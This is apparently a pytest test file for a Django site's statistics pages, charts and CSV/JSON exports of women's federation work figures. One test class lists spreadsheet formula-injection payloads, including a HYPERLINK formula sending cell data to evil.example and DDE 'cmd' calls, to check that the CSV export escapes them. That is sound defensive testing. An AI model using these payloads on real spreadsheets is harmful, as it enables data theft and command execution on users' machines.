"""The public pages of the work figures: the overview of a year (工作数据), an
indicator's page with its chart and table, the figures an article cites, and the
open-data exports (CSV for Excel, JSON for programs).

Figures read as the report wrote them (58.1万户, 8万余人次, 近万人); a running total
says the date it runs to; anything that is not a year with data is a 404, never an
error page.
"""

import csv
import datetime
import html
import io
import json
import re
import warnings
from decimal import Decimal
from pathlib import Path
from xml.etree import ElementTree

import pytest
from django.conf import settings
from django.core.cache.backends.base import CacheKeyWarning
from django.urls import reverse

from news.models import Article
from stats.columns import spreadsheet_cell
from stats.models import Indicator
from tests.factories import ArticleFactory
from tests.stats.factories import (
    IndicatorFactory,
    IndicatorGroupFactory,
    RunningTotalFactory,
    YearlyValueFactory,
)

pytestmark = pytest.mark.django_db

OVERVIEW = "/stats/"
EXPORT_HEADER = [
    "year",
    "group",
    "indicator",
    "unit",
    "value",
    "qualifier",
    "kind",
    "as_of",
    "source_url",
]
SVG_NAMESPACES = {"http://www.w3.org/2000/svg", "http://www.w3.org/1999/xlink"}


def page(response):
    return response.content.decode()


def text_of(fragment):
    return re.sub(r"\s+", " ", html.unescape(re.sub(r"<[^>]+>", "", fragment))).strip()


def cards(response):
    """{indicator name: (figure, note)} as the overview shows them."""
    found = {}
    for card in re.findall(r'<li class="stat-card">(.*?)</li>', page(response), re.DOTALL):
        name = re.search(r'class="stat-card__name"[^>]*>(.*?)</a>', card, re.DOTALL).group(1)
        figure = re.search(r'class="stat-card__figure">(.*?)</strong>', card, re.DOTALL).group(1)
        note = re.search(r'class="stat-card__note">(.*?)</span>', card, re.DOTALL).group(1)
        found[text_of(name)] = (text_of(figure), text_of(note))
    return found


def group_headings(response):
    return [
        text_of(heading)
        for heading in re.findall(
            r'<section class="stat-group"[^>]*>\s*<h2[^>]*>(.*?)</h2>', page(response)
        )
    ]


@pytest.fixture
def groups(db):
    return {
        name: IndicatorGroupFactory(name=name, order=order)
        for order, name in enumerate(["思想引领", "家庭文明建设", "组织建设"])
    }


@pytest.fixture
def report(db):
    return ArticleFactory(title="市妇联：巾帼勇担当 展现新作为")


@pytest.fixture
def figures(groups, report):
    """Figures of the March 8 report (2021) and of the year before (2020)."""

    def indicator(group, name, unit, slug, order):
        return IndicatorFactory(group=groups[group], name=name, unit=unit, slug=slug, order=order)

    xuanjiang = indicator("思想引领", "巾帼大宣讲", "场次", "jinguo-daxuanjiang", 0)
    canyu = indicator("思想引领", "宣教活动参与人次", "人次", "xuanjiao-canyu", 1)
    shouke = indicator("家庭文明建设", "美丽庭院创建授课", "课时", "tingyuan-shouke", 0)
    tingyuan = indicator("家庭文明建设", "美丽庭院", "户", "meili-tingyuan", 1)
    lingtouyan = indicator("组织建设", "“领头雁”培训人数", "人", "lingtouyan-renshu", 0)
    return {
        "2021": [
            YearlyValueFactory(indicator=xuanjiang, value=535, source_article=report),
            YearlyValueFactory(
                indicator=canyu,
                value=80000,
                qualifier="more_than",
                scale="wan",
                source_article=report,
            ),
            YearlyValueFactory(indicator=shouke, value=Decimal("713.5"), source_article=report),
            RunningTotalFactory(
                indicator=tingyuan, value=581000, scale="wan", source_article=report
            ),
            RunningTotalFactory(
                indicator=lingtouyan,
                value=10000,
                qualifier="nearly",
                scale="wan",
                source_article=report,
            ),
        ],
        "2020": [
            YearlyValueFactory(indicator=xuanjiang, year=2020, value=500),
            YearlyValueFactory(indicator=canyu, year=2020, value=100000, scale="wan"),
        ],
    }


class TestOverview:
    def test_the_latest_year_is_shown_grouped_as_the_report_is(self, client, figures):
        response = client.get(OVERVIEW)

        assert response.status_code == 200
        assert "工作数据 · 2021年" in text_of(page(response))
        assert group_headings(response) == ["思想引领", "家庭文明建设", "组织建设"]
        assert {name: figure for name, (figure, _) in cards(response).items()} == {
            "巾帼大宣讲": "535场次",
            "宣教活动参与人次": "8万余人次",
            "美丽庭院创建授课": "713.5课时",
            "美丽庭院": "58.1万户",
            "“领头雁”培训人数": "近万人",
        }

    def test_a_running_total_says_the_date_it_runs_to(self, client, figures):
        shown = cards(client.get(OVERVIEW))
        assert shown["美丽庭院"][1] == "截至2022年3月8日累计"
        assert shown["“领头雁”培训人数"][1] == "截至2022年3月8日累计"
        assert shown["美丽庭院创建授课"][1] == "2021年度"

    def test_year_on_year_change_is_shown_where_the_previous_year_exists(self, client, figures):
        shown = cards(client.get(OVERVIEW))
        assert shown["巾帼大宣讲"][1] == "2021年度 · 同比增长7%"  # 500 -> 535
        assert shown["宣教活动参与人次"][1] == "2021年度 · 同比下降20%"  # 10万 -> 8万余

    def test_no_year_on_year_change_without_a_previous_year(self, client, figures):
        shown = cards(client.get(OVERVIEW))
        assert "同比" not in shown["美丽庭院创建授课"][1]
        assert "同比" not in shown["美丽庭院"][1]

    def test_a_rounded_percentage_with_one_decimal(self, client, groups):
        indicator = IndicatorFactory(group=groups["思想引领"], name="读书班", unit="场次")
        YearlyValueFactory(indicator=indicator, year=2020, value=90)
        YearlyValueFactory(indicator=indicator, year=2021, value=106)  # +17.777...%
        assert cards(client.get(OVERVIEW))["读书班"][1] == "2021年度 · 同比增长17.8%"

    def test_an_unchanged_figure_reads_flat(self, client, groups):
        indicator = IndicatorFactory(group=groups["思想引领"], name="读书班", unit="场次")
        YearlyValueFactory(indicator=indicator, year=2020, value=106)
        YearlyValueFactory(indicator=indicator, year=2021, value=106)
        assert cards(client.get(OVERVIEW))["读书班"][1] == "2021年度 · 同比持平"

    def test_year_chooses_the_year_shown(self, client, figures):
        response = client.get(OVERVIEW, {"year": "2020"})

        assert response.status_code == 200
        assert "工作数据 · 2020年" in text_of(page(response))
        assert {name: figure for name, (figure, _) in cards(response).items()} == {
            "巾帼大宣讲": "500场次",
            "宣教活动参与人次": "10万人次",
        }
        assert '<option value="2020" selected>' in page(response)

    @pytest.mark.parametrize(
        "year",
        ["abc", "1800", "2019", "2022", "２０２１", "", " 2021", "2021.0", "-2021", "20210"],
    )
    def test_any_other_year_is_not_found(self, client, figures, year):
        assert client.get(OVERVIEW, {"year": year}).status_code == 404

    def test_a_10000_character_year_is_not_found(self, client, figures):
        assert client.get(OVERVIEW, {"year": "9" * 10_000}).status_code == 404

    def test_with_no_figures_the_page_says_so(self, client, db):
        response = client.get(OVERVIEW)
        assert response.status_code == 200
        assert "暂无数据。" in page(response)
        assert client.get(OVERVIEW, {"year": "2021"}).status_code == 404

    def test_each_card_links_to_its_indicator_page(self, client, figures):
        assert 'href="/stats/meili-tingyuan/"' in page(client.get(OVERVIEW))


def chart_svg(response, kind="yearly"):
    """The chart's markup: its drawings (wide and narrow), one after the other."""
    match = re.search(
        rf'<section class="stat-series" aria-labelledby="series-{kind}">.*?'
        r'<div class="chart__svg"[^>]*>(.*?)</div>',
        page(response),
        re.DOTALL,
    )
    assert match, f"no {kind} chart"
    return match.group(1)


def chart_drawings(response, kind="yearly"):
    """{class: parsed <svg>} of the chart's drawings."""
    svgs = re.findall(r"<svg\b.*?</svg>", chart_svg(response, kind), re.DOTALL)
    roots = [ElementTree.fromstring(svg) for svg in svgs]
    return {
        next(c for c in root.get("class").split() if c.startswith("chart-")): root for root in roots
    }


def smallest_text():
    """The smallest font size the charts' stylesheet gives their labels, titles and
    values (pygal's tooltip and no-data text are never shown here). Both drawings
    share it; their sizes differ in viewBox width."""
    style = (Path(settings.BASE_DIR) / "static/css/charts.css").read_text()
    sizes = [
        float(size)
        for selector, size in re.findall(r"([^{}]+)\{[^}]*?font-size:\s*([\d.]+)px", style)
        if "tooltip" not in selector and "no_data" not in selector
    ]
    return min(sizes)


def table_rows(response, kind="yearly"):
    section = re.search(
        rf'<section class="stat-series" aria-labelledby="series-{kind}">(.*?)</section>',
        page(response),
        re.DOTALL,
    ).group(1)
    tbody = re.search(r"<tbody>(.*?)</tbody>", section, re.DOTALL).group(1)
    return [
        [text_of(cell) for cell in re.findall(r"<t[hd][^>]*>(.*?)</t[hd]>", row, re.DOTALL)]
        for row in re.findall(r"<tr>(.*?)</tr>", tbody, re.DOTALL)
    ]


class TestIndicatorPage:
    def test_the_page_has_an_inline_svg_chart_of_the_series(self, client, figures):
        response = client.get("/stats/jinguo-daxuanjiang/")

        assert response.status_code == 200
        drawings = chart_drawings(response)
        assert drawings
        for root in drawings.values():
            assert root.tag == "{http://www.w3.org/2000/svg}svg"
            svg = ElementTree.tostring(root, encoding="unicode")
            assert "巾帼大宣讲（年度，单位：场次）" in svg
            assert "2020年" in svg and "2021年" in svg

    def test_the_chart_is_drawn_wide_for_desktops_and_narrow_for_phones(self, client, figures):
        """A 720-unit drawing squeezed onto a 360-pixel phone printed 6-pixel labels
        (issue 9): the phone gets its own drawing, whose labels stay at 12 pixels or
        more in the 328 pixels a 360-pixel screen leaves the page's content."""
        drawings = chart_drawings(client.get("/stats/jinguo-daxuanjiang/"))

        assert set(drawings) == {"chart-wide", "chart-narrow"}
        wide, narrow = drawings["chart-wide"], drawings["chart-narrow"]
        assert wide.get("viewBox").split()[2] == "720"
        narrow_width = float(narrow.get("viewBox").split()[2])
        assert smallest_text() * 328 / narrow_width >= 12
        # The stylesheet shows the wide drawing only where it is nearly full size.
        assert smallest_text() * 688 / 720 >= 12
        stylesheet = (Path(settings.BASE_DIR) / "static/css/site.css").read_text()
        assert re.search(r"@media \(min-width: 752px\) \{\s*\.chart__svg \.chart-wide", stylesheet)

    def test_the_chart_takes_its_colours_from_the_page(self, client, figures):
        """Text and bars follow the reader's mode (高对比度 is yellow and white on
        black): no fixed dark text colour, which was #222 on black."""
        response = client.get("/stats/jinguo-daxuanjiang/")
        svg = chart_svg(response)
        # The drawing has no colour of its own; the stylesheet the page links gives them.
        assert not re.search(r"""(?:fill|stroke|color)\s*[:=]\s*["']?(?:#|rgb|black)""", svg)
        assert "/static/css/charts.css" in page(response)
        stylesheet = (Path(settings.BASE_DIR) / "static/css/charts.css").read_text()
        assert "currentColor" in stylesheet and "var(--chart-bar" in stylesheet
        assert not re.search(r"fill:\s*(?:#222|black|#000)\b", stylesheet)

    def test_the_chart_has_no_script(self, client, figures):
        svg = chart_svg(client.get("/stats/jinguo-daxuanjiang/"))
        assert "<script" not in svg.lower()

    def test_the_chart_makes_no_request_to_another_host(self, client, figures):
        svg = chart_svg(client.get("/stats/jinguo-daxuanjiang/"))
        # Comments are never fetched (pygal signs its charts with <!--http://pygal.org-->).
        without_comments = re.sub(r"<!--.*?-->", "", svg, flags=re.DOTALL)
        addresses = set(re.findall(r"https?://[^\s\"'<>)]+", without_comments))
        assert addresses <= SVG_NAMESPACES
        # Nor an address without its scheme (//host/file.js) in a link, a source or CSS.
        assert not re.search(r"""(?:href|src)\s*=\s*["']//|url\(\s*["']?//|@import""", svg)

    def test_the_table_lists_every_years_figure_with_its_change(self, client, figures, report):
        assert table_rows(client.get("/stats/jinguo-daxuanjiang/")) == [
            ["2020年", "500场次", "—", "—"],
            ["2021年", "535场次", "同比增长7%", report.title],
        ]

    def test_a_running_total_table_shows_the_as_of_date(self, client, figures, report):
        assert table_rows(client.get("/stats/meili-tingyuan/"), "running_total") == [
            ["2021年", "58.1万户", "2022年3月8日", report.title],
        ]

    def test_an_indicator_with_both_kinds_shows_both_series(self, client, figures):
        indicator = figures["2021"][4].indicator  # “领头雁”培训人数: a running total
        YearlyValueFactory(indicator=indicator, year=2021, value=3000)
        response = client.get(indicator.get_absolute_url())
        assert table_rows(response, "yearly") == [["2021年", "3000人", "—", "—"]]
        assert table_rows(response, "running_total")[0][1] == "近万人"

    def test_the_page_lists_its_live_source_articles_only(self, client, figures, report):
        draft = ArticleFactory(
            title="尚未发布的稿件", status=Article.Status.DRAFT, published_at=None
        )
        withdrawn = ArticleFactory(title="已撤回的稿件", status=Article.Status.WITHDRAWN)
        indicator = figures["2020"][0].indicator
        YearlyValueFactory(indicator=indicator, year=2019, value=480, source_article=draft)
        YearlyValueFactory(indicator=indicator, year=2018, value=470, source_article=withdrawn)

        response = client.get(indicator.get_absolute_url())

        sources = re.search(
            r'aria-labelledby="sources-heading">(.*?)</section>', page(response), re.DOTALL
        ).group(1)
        assert report.title in sources
        assert f'href="{report.get_absolute_url()}"' in sources
        assert draft.title not in page(response)
        assert withdrawn.title not in page(response)
        assert [row[3] for row in table_rows(response)] == ["—", "—", "—", report.title]

    def test_an_indicator_without_figures_says_so(self, client, groups):
        indicator = IndicatorFactory(group=groups["组织建设"], slug="xinzeng-zhiwei")
        response = client.get(indicator.get_absolute_url())
        assert response.status_code == 200
        assert "暂无数据。" in page(response)

    def test_an_unknown_indicator_is_not_found(self, client, figures):
        assert client.get("/stats/no-such-indicator/").status_code == 404

    def test_a_renamed_indicator_has_its_new_name_on_the_chart(self, client, figures):
        indicator = figures["2021"][0].indicator
        client.get(indicator.get_absolute_url())  # the chart is drawn and cached
        indicator.name = "巾帼宣讲"
        indicator.save()

        svg = chart_svg(client.get(indicator.get_absolute_url()))

        assert "巾帼宣讲（年度，单位：场次）" in svg

    def test_a_corrected_figure_is_drawn_again(self, client, figures):
        value = figures["2021"][0]
        client.get(value.indicator.get_absolute_url())
        value.value = 540
        value.save()
        svg = chart_svg(client.get(value.indicator.get_absolute_url()))
        assert ">540<" in svg


def test_the_chart_cache_key_suits_every_cache_backend(client, figures):
    """Django warns of keys that memcached rejects (spaces, control characters)."""
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        client.get("/stats/jinguo-daxuanjiang/")
    assert [str(w.message) for w in caught if issubclass(w.category, CacheKeyWarning)] == []


class TestQueryCounts:
    """The pages cost a fixed number of queries, however many figures there are."""

    # Both pages: the column navigation with the lists' Ranking, which also tells the
    # page cache when the next scheduled article goes live (news.positions), and the
    # footer's site profile and links, on a cold cache as in these tests.
    # The overview: the years, the year's and the previous year's figures (one query).
    OVERVIEW_QUERIES = 5
    # An indicator: the indicator, its figures with their source articles.
    INDICATOR_QUERIES = 5

    def add_more(self, groups, report):
        for number in range(6):
            indicator = IndicatorFactory(group=groups["组织建设"], slug=f"more-{number}")
            for year in range(2015, 2022):
                YearlyValueFactory(
                    indicator=indicator, year=year, value=100 + year, source_article=report
                )

    def test_the_overview(self, client, figures, django_assert_num_queries):
        with django_assert_num_queries(self.OVERVIEW_QUERIES):
            assert client.get(OVERVIEW).status_code == 200

    def test_the_overview_does_not_grow(
        self, client, figures, groups, report, django_assert_num_queries
    ):
        self.add_more(groups, report)
        with django_assert_num_queries(self.OVERVIEW_QUERIES):
            response = client.get(OVERVIEW)
        assert len(cards(response)) == 11

    def test_an_indicator_page(self, client, figures, django_assert_num_queries):
        with django_assert_num_queries(self.INDICATOR_QUERIES):
            assert client.get("/stats/jinguo-daxuanjiang/").status_code == 200

    def test_an_indicator_page_does_not_grow(
        self, client, figures, groups, report, django_assert_num_queries
    ):
        self.add_more(groups, report)
        indicator = figures["2021"][0].indicator
        for year in range(2010, 2020):
            YearlyValueFactory(
                indicator=indicator, year=year, value=year, source_article=ArticleFactory()
            )
        with django_assert_num_queries(self.INDICATOR_QUERIES):
            response = client.get(indicator.get_absolute_url())
        assert len(table_rows(response)) == 12


class TestArticlePage:
    def test_a_source_article_lists_the_figures_it_reports(self, client, figures, report):
        response = client.get(report.get_absolute_url())

        assert response.status_code == 200
        aside = re.search(r'<aside class="article-figures".*?</aside>', page(response), re.DOTALL)
        assert aside, "no 本文数据 box"
        items = [text_of(item) for item in re.findall(r"<li>(.*?)</li>", aside.group(0))]
        assert items == [
            "巾帼大宣讲：535场次",
            "宣教活动参与人次：8万余人次",
            "美丽庭院创建授课：713.5课时",
            "美丽庭院：58.1万户（累计）",
            "“领头雁”培训人数：近万人（累计）",
        ]
        assert "本文数据" in text_of(aside.group(0))
        assert 'href="/stats/meili-tingyuan/"' in aside.group(0)

    def test_an_article_citing_no_figures_has_no_figures_box(self, client, figures):
        other = ArticleFactory()
        assert "本文数据" not in page(client.get(other.get_absolute_url()))


def export_csv_rows(client):
    response = client.get(reverse("stats:export_csv"))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


class TestExports:
    def expected_rows(self, report):
        url = f"http://testserver{report.get_absolute_url()}"
        return [
            ["2020", "思想引领", "巾帼大宣讲", "场次", "500", "exact", "yearly", "", ""],
            ["2020", "思想引领", "宣教活动参与人次", "人次", "100000", "exact", "yearly", "", ""],
            ["2021", "思想引领", "巾帼大宣讲", "场次", "535", "exact", "yearly", "", url],
            [
                "2021",
                "思想引领",
                "宣教活动参与人次",
                "人次",
                "80000",
                "more_than",
                "yearly",
                "",
                url,
            ],
            [
                "2021",
                "家庭文明建设",
                "美丽庭院创建授课",
                "课时",
                "713.5",
                "exact",
                "yearly",
                "",
                url,
            ],
            [
                "2021",
                "家庭文明建设",
                "美丽庭院",
                "户",
                "581000",
                "exact",
                "running_total",
                "2022-03-08",
                url,
            ],
            [
                "2021",
                "组织建设",
                "“领头雁”培训人数",
                "人",
                "10000",
                "nearly",
                "running_total",
                "2022-03-08",
                url,
            ],
        ]

    def test_the_csv_export_opens_in_excel_as_utf8_with_one_row_per_figure(
        self, client, figures, report
    ):
        rows = export_csv_rows(client)
        assert rows[0] == EXPORT_HEADER
        assert rows[1:] == self.expected_rows(report)

    def test_the_csv_export_is_a_download(self, client, figures):
        response = client.get(reverse("stats:export_csv"))
        assert response["Content-Disposition"] == 'attachment; filename="fedsite-stats.csv"'

    def test_the_json_export_has_the_same_rows_with_numbers_as_numbers(
        self, client, figures, report
    ):
        response = client.get(reverse("stats:export_json"))

        assert response.status_code == 200
        data = json.loads(response.content)
        assert data["fields"] == EXPORT_HEADER
        expected = [
            dict(zip(EXPORT_HEADER, row, strict=True)) for row in self.expected_rows(report)
        ]
        for row in expected:
            row["year"] = int(row["year"])
            row["value"] = json.loads(row["value"])
            row["as_of"] = row["as_of"] or None
            row["source_url"] = row["source_url"] or None
        assert data["values"] == expected
        assert data["values"][4]["value"] == 713.5
        assert isinstance(data["values"][2]["value"], int)

    def test_the_json_export_keeps_chinese_readable(self, client, figures):
        assert "巾帼大宣讲" in client.get(reverse("stats:export_json")).content.decode()

    @pytest.mark.parametrize(
        "state",
        [
            {"status": Article.Status.DRAFT, "published_at": None},
            {"status": Article.Status.WITHDRAWN},
            {"published_at": datetime.datetime(2099, 1, 1, tzinfo=datetime.UTC)},
        ],
        ids=["draft", "withdrawn", "scheduled"],
    )
    def test_a_figure_citing_an_article_the_public_cannot_see_exports_no_source(
        self, client, groups, state
    ):
        hidden = ArticleFactory(title="尚未公开的稿件", **state)
        YearlyValueFactory(indicator__group=groups["思想引领"], source_article=hidden)

        assert export_csv_rows(client)[1][-1] == ""
        data = json.loads(client.get(reverse("stats:export_json")).content)
        assert data["values"][0]["source_url"] is None

    def test_the_exports_of_an_empty_site_have_only_the_header(self, client, db):
        assert export_csv_rows(client) == [EXPORT_HEADER]
        data = json.loads(client.get(reverse("stats:export_json")).content)
        assert data == {"fields": EXPORT_HEADER, "values": []}

    def test_a_figure_with_a_comma_or_quote_in_its_name_survives_the_csv(self, client, groups):
        YearlyValueFactory(indicator__group=groups["组织建设"], indicator__name='妇女之家,"示范"')
        assert export_csv_rows(client)[1][2] == '妇女之家,"示范"'


class TestCsvExportIsSafeInASpreadsheet:
    """Excel and WPS run a cell that starts with = + - @ (WPS also ＝＋－＠, and a tab or
    carriage return before one) as a formula: such text is written with a leading
    single quote, and numbers stay numbers (issue 9)."""

    FORMULAS = [
        '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(1)",
    ]

    @pytest.mark.parametrize("text", FORMULAS)
    @pytest.mark.parametrize("column", ["group", "indicator", "unit"])
    def test_text_that_a_spreadsheet_would_run_starts_with_a_quote(self, client, db, text, column):
        names = {
            "group": "indicator__group__name",
            "indicator": "indicator__name",
            "unit": "indicator__unit",
        }
        if column == "unit":
            text = text[:10]  # the longest unit there is room for
        value = YearlyValueFactory(**{names[column]: text})
        indicator = Indicator.objects.select_related("group").get(pk=value.indicator_id)
        stored = {
            "group": indicator.group.name,
            "indicator": indicator.name,
            "unit": indicator.unit,
        }[column]

        row = dict(zip(EXPORT_HEADER, export_csv_rows(client)[1], strict=True))

        assert row[column] == "'" + stored
        data = json.loads(client.get(reverse("stats:export_json")).content)
        assert data["values"][0][column] == stored, "JSON is for programs: written as is"

    @pytest.mark.parametrize("text", ["巾帼大宣讲", "1+1", "a=b", "“领头雁”培训", "'引号"])
    def test_other_text_is_written_as_it_is(self, client, db, text):
        YearlyValueFactory(indicator__name=text)

        assert export_csv_rows(client)[1][2] == text

    @pytest.mark.parametrize(
        ("value", "written"), [(Decimal("713.5"), "713.5"), (580000, "580000"), (0, "0")]
    )
    def test_numbers_stay_numbers(self, client, db, value, written):
        YearlyValueFactory(value=value, year=2021)

        row = dict(zip(EXPORT_HEADER, export_csv_rows(client)[1], strict=True))

        assert (row["year"], row["value"]) == ("2021", written)

    @pytest.mark.parametrize(
        ("number", "written"), [(-3, "-3"), (Decimal("-3.00"), "-3"), (Decimal("-0.50"), "-0.5")]
    )
    def test_a_negative_number_is_written_as_a_number(self, number, written):
        """The database holds no negative figure; the rule still keeps -3 a number."""
        assert spreadsheet_cell(number) == written
